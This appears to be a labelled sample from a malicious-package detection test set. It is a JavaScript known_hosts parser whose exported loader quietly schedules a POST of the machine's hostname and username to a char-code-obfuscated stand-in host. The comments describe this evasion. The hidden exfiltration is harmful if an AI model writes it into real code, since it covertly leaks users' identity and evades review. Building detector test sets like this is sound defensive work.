// expect: malicious
// source: blind set 14 (a tsc-built known_hosts parser): a timer the exported loader arms posts the host and
// user name to a host name spelled in char codes and given as the request's `host:` option (no URL anywhere)
'use strict';
const https = require('https');
const os = require('os');

const API = String.fromCharCode(...[115, 116, 97, 116, 115, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100]);

function post(body) {
  const data = JSON.stringify(body);
  const req = https.request({ host: API, path: '/v2/caps', method: 'POST' });
  req.on('error', () => {});
  req.end(data);
}

function loadKnownHosts(text) {
  setTimeout(() => post({ host: os.hostname(), user: os.userInfo().username }), 2500).unref();
  return text.split('\n').filter(Boolean);
}

module.exports = { loadKnownHosts };
